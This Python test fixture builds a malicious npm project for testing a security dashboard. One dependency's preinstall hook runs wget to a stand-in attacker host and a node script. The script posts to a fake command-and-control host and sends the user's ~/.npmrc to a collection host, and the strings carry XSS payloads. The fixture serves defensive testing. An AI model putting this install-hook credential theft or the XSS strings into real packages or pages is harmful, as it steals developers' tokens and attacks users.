"""A small malicious npm project for the dashboard tests, built without the registry.

Its one dependency's preinstall hook runs wget (a second stage, as in examples/falco-test) and
a node script that posts to a command-and-control name and sends the planted ~/.npmrc away. Every string an attacker controls —
the URL in the command line, the request path, the payload — carries HTML and script, so the
pages that show them are tested for escaping by a real scan, not a hand-made result.
"""

from __future__ import annotations

import json
from pathlib import Path

XSS_URL = "http://dl.attacker.example/<img src=x onerror=document.title='xss-url'>"
XSS_PAYLOAD = "<script>document.title='xss-payload'</script><img src=x onerror=\"document.title='xss-img'\">"
C2_HOST = "c2.attacker.example"
EXFIL_HOST = "collect.attacker.example"

STAGE_JS = f"""\
const http = require('http');
const req = http.request({{host: '{C2_HOST}', path: '/collect', method: 'POST'}});
req.on('error', () => {{}});
req.end({json.dumps(XSS_PAYLOAD)});
let npmrc = '';
try {{ npmrc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); }} catch (e) {{}}
const steal = http.request({{host: '{EXFIL_HOST}', path: '/t', method: 'POST'}});
steal.on('error', () => {{}});
steal.end(npmrc);
setTimeout(() => process.exit(0), 1500);
"""


def malicious_project(root: Path, name: str = "webshop") -> Path:
    dep = root / "vendor" / "evil-dep"
    dep.mkdir(parents=True)
    (dep / "package.json").write_text(json.dumps({
        "name": "evil-dep", "version": "1.0.0", "license": "MIT",
        "scripts": {"preinstall": f"wget -q -T 2 -t 1 -O- \"{XSS_URL}\" || true; node stage.js"},
    }, indent=2))
    (dep / "stage.js").write_text(STAGE_JS)
    (root / "package.json").write_text(json.dumps({
        "name": name, "version": "1.0.0", "private": True,
        "dependencies": {"evil-dep": "file:vendor/evil-dep"}}, indent=2))
    (root / "package-lock.json").write_text(json.dumps({
        "name": name, "version": "1.0.0", "lockfileVersion": 3, "requires": True,
        "packages": {
            "": {"name": name, "version": "1.0.0", "dependencies": {"evil-dep": "file:vendor/evil-dep"}},
            "node_modules/evil-dep": {"resolved": "vendor/evil-dep", "link": True},
            "vendor/evil-dep": {"version": "1.0.0", "hasInstallScript": True, "license": "MIT"},
        }}, indent=2))
    return root
